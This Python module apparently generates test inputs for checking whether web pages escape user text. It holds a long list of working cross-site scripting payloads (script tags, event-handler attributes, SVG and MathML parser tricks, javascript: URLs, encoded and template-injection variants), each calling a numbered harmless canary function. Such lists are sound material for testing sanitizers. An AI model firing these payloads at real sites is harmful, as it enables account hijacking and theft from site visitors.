"""Text that would run a script where a page forgot to treat it as text.

Each calls `canary(N)`; the number tells which one it was.
"""

from __future__ import annotations

from itertools import product

# What runs a script once it is taken for HTML; {js} is the call.
VECTORS = [
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<script/x>{js}</script>",
    "<script src=data:text/javascript,{js}></script>",
    "<script type=module>{js}</script>",
    "<script>{js}<!--",
    "<<script>{js}//<</script>",
    "<img src=x onerror={js}>",
    '<img src=x onerror="{js}">',
    "<img src=x: onerror\t=\n{js}>",
    "<img/src=x/onerror={js}>",
    "<image src=x onerror={js}>",
    "<img src=`x` onerror={js}>",
    "<img srcset=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}//",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=data:,{js} /></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a href=javascript:{js}><text y=9>x</text></a></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg></p><style><g title='</style><img src=x onerror={js}>'>",
    "<math><mi><style><img src=x onerror={js}></style></mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<iframe src=javascript:parent.{js}></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe onload={js}></iframe>",
    "<object data=javascript:{js}></object>",
    "<embed src=javascript:{js}>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<a autofocus tabindex=0 onfocus={js}>",
    "<x contenteditable autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<link rel=preload as=script href=x onerror={js}>",
    "<style onload={js}></style>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<base href=javascript:{js}//>",
    "<form action=javascript:{js}><button autofocus>x</button></form>",
    "<a href=javascript:{js}>x</a>",
    "<a href=' \x01java\tscript:{js}'>x</a>",
    "<a href=&#106;avascript:{js}>x</a>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<template><script>{js}</script></template>",
    "<p style='animation:x 1s' onanimationstart={js} onanimationend={js}>",
]
# What ends the place in which the text stands.
CONTEXTS = ["", '">', "'>", "</title>", "</textarea>", "-->"]
# Those that need no tag of their own.
OTHERS = [
    '" autofocus onfocus="{js}" x="',
    "' autofocus onfocus='{js}' x='",
    " onmouseover={js} ",
    '" onerror="{js}" src="x',
    '";{js};//',
    "';{js};//",
    "</script><script>{js}</script>",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\\x3cimg src=x onerror={js}\\x3e",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={js}&amp;gt;",
    "&#60;img src=x onerror={js}&#62;",
    "%3Cscript%3E{js}%3C/script%3E",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "{{% debug %}}<img src=x onerror={js}>",
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "javascript://x%0a{js}",
    "data:text/html,<script>{js}</script>",
    "vbscript:{js}",
    'http://x.example/"onmouseover="{js}',
    "http://x.example/'onmouseover='{js}",
    "http://x.example/<img src=x onerror={js}>",
    "http://x.example/`onclick={js}//",
    "https://javascript:{js}@x.example/",
    "http://x.example/?a=&quot;onclick=&quot;{js}",
    "javascript:http://x.example/%0a{js}",
    "[x](javascript:{js})",
    "![x](x onerror={js})",
    "\x0b<img\x0csrc=x\x0bonerror={js}>",
    "\u2028{js}\u2029",
    "\u202e<img src=x onerror={js}>",
]


def payloads() -> list[str]:
    """Every one, each with a number of its own, from 1 on."""
    texts = [context + vector for context, vector in product(CONTEXTS, VECTORS)] + OTHERS
    return [text.format(js=f"canary({number})") for number, text in enumerate(texts, 1)]
